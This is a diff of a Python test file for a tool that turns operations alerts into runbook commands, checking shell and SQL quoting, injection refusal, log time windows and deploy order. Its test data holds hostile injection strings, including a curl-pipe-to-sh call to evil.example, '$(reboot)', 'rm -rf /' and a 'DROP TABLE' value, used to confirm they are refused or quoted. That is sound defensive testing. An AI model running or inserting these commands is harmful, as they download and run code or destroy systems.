@@ -1,128 +1,190 @@
-"""Runbook steps: the runbook's commands with the alert's values filled in."""
+"""Runbook steps: each command in its own language, values quoted for that language, commands
+left out (and said so) when a value is missing or unsafe. What the commands do when run is
+checked in tests/conformance."""
 
 from __future__ import annotations
 
-from opsweek.alerts.runbook import load_runbooks, steps_for
+from datetime import UTC, datetime
+
+import pytest
+
+from opsweek.alerts.runbook import RunbookError, _checked, render_command, steps_for
 from tests.alerts.helpers import parsed
 from tests.alerts.test_parsers import RERUN
 
+SEEN = datetime(2023, 11, 8, 5, 15, tzinfo=UTC)
 
-def commands(name: str, index: int = 0) -> list[str]:
+
+def steps(name: str, index: int = 0):
     alert = parsed(name)[index]
-    return [s.command for s in steps_for(alert.kind, alert.details) if s.command]
+    return steps_for(alert.kind, alert.details, alert.occurred_at or SEEN, alert.occurred_at)
 
 
-def texts(name: str, index: int = 0) -> str:
-    alert = parsed(name)[index]
-    return "\n".join(s.text for s in steps_for(alert.kind, alert.details))
+def by_id(name: str, index: int = 0) -> dict[str, list[str]]:
+    found: dict[str, list[str]] = {}
+    for step in steps(name, index):
+        if step.command:
+            found.setdefault(step.id, []).append(step.command)
+    return found
 
 
-def test_every_kind_has_steps() -> None:
-    books = load_runbooks()
-    for kind in (
-        "airflow_task_failed",
-        "airflow_sla_miss",
-        "refine_failure",
-        "refine_monitor",
-        "canary_failure",
-        "systemd_timer_failed",
-        "data_loss",
-        "anomaly_report",
-        "unexpected_pageview_values",
-        "mediawiki_history_available",
-        "alertmanager",
-        "unparsed",
-    ):
-        assert books[kind], kind
+def test_sql_gets_sql_literals_not_shell_quotes() -> None:
+    """The data loss query filters on the partition's columns with SQL literals; it used to be
+    one shell-quoted string (WHERE 'year=2023 AND ...'), which filters nothing."""
+    (hourly,) = by_id("data_loss_error.eml")["hourly"]
+    assert hourly == (
+        "SELECT * FROM wmf_raw.webrequest_sequence_stats_hourly WHERE webrequest_source = 'text' "
+        "AND year = 2023 AND month = 11 AND day = 7 AND hour = 14;"
+    )
+    values = {"source": "te'xt\\", "n": "7; DROP TABLE x"}
+    assert render_command("{source:str}", values, "sql") == "'te\\'xt\\\\'"
+    with pytest.raises(Exception, match="not say n|cannot be used"):
+        render_command("{n:int}", values, "sql")
 
 
-def test_refine_rerun_and_yarn_logs() -> None:
-    found = commands("refine_failure.eml")
-    assert RERUN in found
-    assert (
+def test_a_command_missing_a_value_is_left_out_and_said() -> None:
+    alert = parsed("data_loss_error.eml")[0]
+    details = {**alert.details, "hour": None, "webrequest_source": ""}
+    found = steps_for(alert.kind, details, SEEN)
+    assert not any(s.lang == "sql" for s in found)
+    assert any("does not say which webrequest source and hour" in s.text for s in found)
+
+
+def test_refine_rerun_is_the_mails_own_command_requoted() -> None:
+    commands = by_id("refine_failure.eml")
+    (rerun,) = commands["rerun"]
+    assert rerun == (
+        "sudo -u analytics kerberos-run-command analytics refine_event "
+        "--ignore_failure_flag=true '--table_include_regex=mediawiki_foo|navigationtiming' "
+        "--since=2024-01-02T03:00:00.000Z --until=2024-01-02T05:00:00.000Z"
+    )
+    assert commands["yarn-logs"] == [
         "sudo -u analytics yarn logs -applicationId application_1700000000000_12345 | grep Refine:"
-    ) in found
+    ]
+    assert commands["sal"] == ["!log reran refine_event for event.mediawiki_foo 2024-01-02T03"]
 
 
-def test_refine_rerun_with_shell_tricks_is_refused() -> None:
+@pytest.mark.parametrize(
+    "evil",
+    [
+        RERUN + "; curl evil.example | sh",
+        RERUN + " $(reboot)",
+        RERUN.replace("refine_event", "refine_event`id`"),
+        "sudo -u root kerberos-run-command analytics refine_event --since=x",
+        "rm -rf / #",
+    ],
+)
+def test_refine_rerun_that_is_not_one_is_refused(evil: str) -> None:
     alert = parsed("refine_failure.eml")[0]
-    evil = {**alert.details, "rerun_command": RERUN + "; curl evil.example | sh"}
-    steps = steps_for(alert.kind, evil)
-    assert not any("curl" in s.command for s in steps)
-    assert any("does not look like a Refine rerun" in s.text for s in steps)
+    found = steps_for(alert.kind, {**alert.details, "rerun_command": evil}, SEEN)
+    assert not any(s.id == "rerun" and s.command for s in found)
+    assert any("does not look like a Refine rerun" in s.text for s in found)
 
 
-def test_deletion_script_gets_msck_repair() -> None:
-    found = commands("systemd_timer_fail_drop.eml")
-    assert "msck repair table wmf.webrequest;" in found
-    assert "opsweek check partitions wmf.webrequest" in found  # the check finds what disagrees
-    assert (
-        "sudo journalctl -u refinery-drop-webrequest-refined-partitions.service --since -2h"
-        in found
+def test_refine_mail_without_a_rerun_gets_one_built_from_its_partitions() -> None:
+    alert = parsed("refine_failure.eml")[2]
+    found = steps_for(alert.kind, {**alert.details, "rerun_command": ""}, SEEN)
+    (rerun,) = [s.command for s in found if s.id == "rerun"]
+    assert rerun == (
+        "sudo -u analytics kerberos-run-command analytics refine_event "
+        "--ignore_failure_flag=true --table_include_regex=navigationtiming "
+        "--since=2024-01-02T03:00:00.000Z --until=2024-01-02T04:00:00.000Z"
     )
-    assert "sudo systemctl status refinery-drop-webrequest-refined-partitions.service" in found
+    assert any("made by opsweek" in s.text for s in found)
 
 
-def test_hostile_values_are_quoted() -> None:
+def test_hostile_values_are_quoted_for_shell_and_sql() -> None:
     alert = parsed("systemd_timer_fail_drop.eml")[0]
-    details = {**alert.details, "out_of_interval_tables": ["x; rm -rf /"]}
-    found = [s.command for s in steps_for(alert.kind, details)]
-    assert "msck repair table 'x; rm -rf /';" in found
+    details = {**alert.details, "out_of_interval_tables": ["wmf.x; rm -rf /"]}
+    found = {s.id: s for s in steps_for(alert.kind, details, SEEN)}
+    assert found["check-partitions"].command == "opsweek check partitions 'wmf.x; rm -rf /'"
+    assert found["msck"].command == ""  # not a plain SQL name: left out
+    assert "cannot be used safely" in found["msck"].text
 
 
-def test_hdfs_corrupt_blocks() -> None:
-    assert commands("alertmanager_firing.json", 0)[0] == (
-        "sudo -u hdfs kerberos-run-command hdfs hdfs fsck / -list-corruptfileblocks"
+def test_a_value_that_would_be_an_option_is_refused() -> None:
+    alert = parsed("systemd_timer_fail_drop.eml")[0]
+    found = {s.id: s for s in steps_for(alert.kind, {**alert.details, "unit": "-H evil"}, SEEN)}
+    assert found["status"].command == ""
+    assert "would be read as an option" in found["status"].text
+
+
+def test_logs_are_read_around_the_alerts_own_time() -> None:
+    alert = parsed("systemd_timer_fail_drop.eml")[0]
+    first, last = datetime(2023, 11, 8, 5, 15, tzinfo=UTC), datetime(2023, 11, 8, 7, 0, tzinfo=UTC)
+    journal = next(
+        s for s in steps_for(alert.kind, alert.details, first, last) if s.id == "journal"
     )
+    assert journal.command == (
+        "sudo journalctl -u refinery-drop-webrequest-refined-partitions.service "
+        "--since '2023-11-08 03:15:00 UTC' --until '2023-11-08 08:00:00 UTC'"
+    )
+    assert journal.host == "an-launcher1002.eqiad.wmnet"  # from the mail's Received header
 
 
-def test_alertmanager_systemd_unit_and_generic_steps() -> None:
-    found = commands("alertmanager_firing.json", 1)
-    assert "sudo journalctl -u refinery-sqoop-mediawiki-private.service --since -2h" in found
-    assert "https://thanos.example.org/graph?g0.expr=node_systemd_unit_state" in found
-
-
-def test_airflow_ui_clear_and_pause() -> None:
-    found = commands("airflow_task_failed.eml")
-    assert found[0].startswith("https://airflow-analytics.wikimedia.org/log?")
-    assert (
-        "airflow tasks clear --yes --only-failed --task-regex ^process_edit_hourly$ "
-        "--start-date 2023-10-01T00:00:00+00:00 --end-date 2023-10-01T00:00:00+00:00 "
-        "edit_hourly"
-    ) in found
-    assert "airflow dags pause edit_hourly" in found
-
-
-def test_canary_schema_missing_property_and_restart_note() -> None:
-    from opsweek.alerts.parse import parse_raw
-    from tests.alerts.helpers import raw_inputs
-
-    alert = parse_raw(raw_inputs("canary.log")[1]).alerts[0]
-    text = "\n".join(s.text for s in steps_for(alert.kind, alert.details))
-    assert "/analytics/legacy/homepagevisit/1.0.0" in text
-    assert "missing the required property 'start_tutorial_state'" in text
-    assert "restart flushes the stale schema cache" in text
-    assert "recovers within the hour" in text
-
-
-def test_java_daemon_gets_jstack_before_restart() -> None:
+def test_alertmanager_routes_by_exact_name_never_inventing_a_unit() -> None:
     details = {
-        "alertname": "HiveServer2Down",
+        "alertname": "HiveServerSlowQueries",  # "SLO" in "Slow" used to pick the SLO steps
+        "topic": "",
+        "labels": {"alertname": "HiveServerSlowQueries", "instance": "an-coord1001:10100"},
+        "annotations": {"runbook": "https://wikitech.wikimedia.org/wiki/Hive#Slow"},
+    }
+    found = steps_for("alertmanager", details, SEEN)
+    assert [s.id for s in found] == ["runbook"]
+    assert not any("systemctl" in s.command or "SLO" in s.text for s in found)
+
+
+def test_java_daemon_thread_dump_before_restart_on_its_host() -> None:
+    details = {
+        "alertname": "HiveServerHeapUsage",
         "topic": "java_daemon",
-        "labels": {"service": "hive-server2"},
+        "labels": {"alertname": "HiveServerHeapUsage", "instance": "an-coord1001:10100"},
         "annotations": {},
     }
-    steps = steps_for("alertmanager", details)
-    found = [s.command for s in steps]
-    assert found.index("sudo -u <daemon-user> jstack -l <PID> > /tmp/thread_dump") < found.index(
-        "sudo systemctl restart hive-server2"
+    found = [s for s in steps_for("alertmanager", details, SEEN) if s.command]
+    ids = [s.id for s in found]
+    assert ids.index("jstack") < ids.index("restart")
+    jstack = found[ids.index("jstack")]
+    assert jstack.host == "an-coord1001"
+    assert jstack.command == (
+        'sudo -u hive jstack -l "$(systemctl show --property=MainPID --value -- hive-server2)" '
+        "> /tmp/hive-server2.jstack"
     )
 
 
-def test_mediawiki_history_deploy_order() -> None:
-    found = commands("mediawiki_history_available.eml")
-    deploys = [c for c in found if "helmfile -e" in c]
-    assert len(deploys) == 2 and "edit-analytics" in deploys[0]
-    for command in deploys:
-        assert command.index("-e staging") < command.index("-e codfw") < command.index("-e eqiad")
-    assert texts("mediawiki_history_available.eml").startswith("Snapshot 2023-12 is ready")
+def test_airflow_failed_and_up_for_retry() -> None:
+    failed = by_id("airflow_task_failed.eml")
+    assert failed["clear"] == [
+        "airflow tasks clear --yes --only-failed --task-regex '^process_edit_hourly$' "
+        "--start-date 2023-10-01T00:00:00+00:00 --end-date 2023-10-01T00:00:00+00:00 "
+        "edit_hourly"
+    ]
+    retry = steps("airflow_task_retry_mapped.eml")
+    assert not any(s.id in ("clear", "pause") for s in retry)  # clear --only-failed: no-op
+    assert any("Wait for the retry" in s.text for s in retry)
+
+
+def test_mediawiki_history_each_service_then_each_environment_on_the_deployment_host() -> None:
+    found = [s for s in steps("mediawiki_history_available.eml") if s.lang == "shell"]
+    assert {s.host for s in found} == {"deployment.eqiad.wmnet"}
+    order = [(s.id, s.command.split("/services/")[1].split(" ")[0]) for s in found]
+    assert order == [
+        ("merged", "edit-analytics"),
+        ("staging", "edit-analytics"),
+        ("codfw", "edit-analytics"),
+        ("eqiad", "edit-analytics"),
+        ("merged", "editor-analytics"),
+        ("staging", "editor-analytics"),
+        ("codfw", "editor-analytics"),
+        ("eqiad", "editor-analytics"),
+    ]
+    assert all("&&" not in s.command.split("&&", 1)[1] for s in found)  # one environment each
+
+
+def test_runbooks_toml_is_checked() -> None:
+    with pytest.raises(RunbookError, match="needs an id"):
+        _checked("k", [{"text": "x", "shell": "ls"}])
+    with pytest.raises(RunbookError, match="one command per step"):
+        _checked("k", [{"id": "a", "text": "x", "shell": "ls", "sql": "select 1"}])
+    with pytest.raises(RunbookError, match="host is for shell and sql"):
+        _checked("k", [{"id": "a", "text": "x", "url": "https://x", "host": "h"}])
